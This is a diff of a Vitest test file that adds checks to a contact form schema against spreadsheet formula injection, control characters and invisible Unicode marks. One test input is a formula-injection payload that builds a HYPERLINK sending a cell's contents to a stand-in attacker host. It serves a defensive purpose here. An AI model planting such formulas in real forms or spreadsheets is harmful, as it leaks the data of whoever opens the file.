@@ -2,7 +2,7 @@ import { readdirSync, readFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
 import { contactRequestSchema, fieldErrors } from "@/lib/contact/contact-schema";
 import { isEmailAddress } from "@/lib/contact/email-rule";
-import { COUNTRIES, FIELD_LIMITS, PHONE_PREFIXES, REASONS, VOLUMES } from "@/lib/leads/options";
+import { COUNTRIES, FIELD_LIMITS, NAME_PATTERN, PHONE_PREFIXES, REASONS, VOLUMES } from "@/lib/leads/options";
 import { MARKETS } from "@/lib/markets/markets";
 import { lead } from "../../bench/lib/contact-load";
 import { EMAILS } from "../support/emails";
@@ -99,6 +99,51 @@ describe("the contact request schema shared by the form and the route", () => {
 
   it("names the body when it is not an object", () => {
     expect(rejected("text")).toEqual({ body: expect.any(String) });
+  });
+});
+
+describe("lead text a spreadsheet or a plain-text alert would misread", () => {
+  const namePattern = new RegExp(`^(?:${NAME_PATTERN})$`, "v");
+
+  it("refuses a company or contact starting like a formula, in the form's pattern and in the route", () => {
+    for (const formula of [
+      '=HYPERLINK("https://evil.example/?d="&C2,"Ver ficha")',
+      "+1+1",
+      "-2+3",
+      "@SUM(A1)",
+      " =1+1",
+      "\u200b=1+1",
+    ]) {
+      expect(namePattern.test(formula), formula).toBe(false);
+      expect(rejected({ ...valid, company: formula }), formula).toHaveProperty("company");
+      expect(rejected({ ...valid, contact: formula }), formula).toHaveProperty("contact");
+    }
+    // A tab or CR before it is a control character: refused as well.
+    expect(rejected({ ...valid, company: "Acme\t=1+1" })).toHaveProperty("company");
+    // Signs inside a name are a name's business.
+    for (const name of ["Ana-María Gómez", "A+B Consultores", "Acme @ Monterrey", " Acme", "Ana = CEO"]) {
+      expect(namePattern.test(name), name).toBe(true);
+      expect(contactRequestSchema.safeParse({ ...valid, company: name, contact: name }).success, name).toBe(true);
+    }
+  });
+
+  it("refuses C1 controls, line and paragraph separators and direction marks", () => {
+    for (const text of ["Acme\u2028Correo: ceo@bigcorp.example", "Acme\u2029x", "Acme\u0085x", "Acme\u009bx"]) {
+      expect(rejected({ ...valid, company: text }), JSON.stringify(text)).toHaveProperty("company");
+    }
+    for (const mark of ["\u200e", "\u200f", "\u061c"]) {
+      expect(rejected({ ...valid, contact: `Ana${mark} Pérez` }), JSON.stringify(mark)).toHaveProperty("contact");
+    }
+  });
+
+  it("removes zero-width characters and a byte order mark without a word", () => {
+    const lead = contactRequestSchema.parse({
+      ...valid,
+      company: "\ufeffAcme\u200b Importaciones\u2060",
+      contact: "Ana\u200c Pérez\u200d",
+      email: "\ufeffana@example.com\u200b",
+    });
+    expect([lead.company, lead.contact, lead.email]).toEqual(["Acme Importaciones", "Ana Pérez", "ana@example.com"]);
   });
 });
 
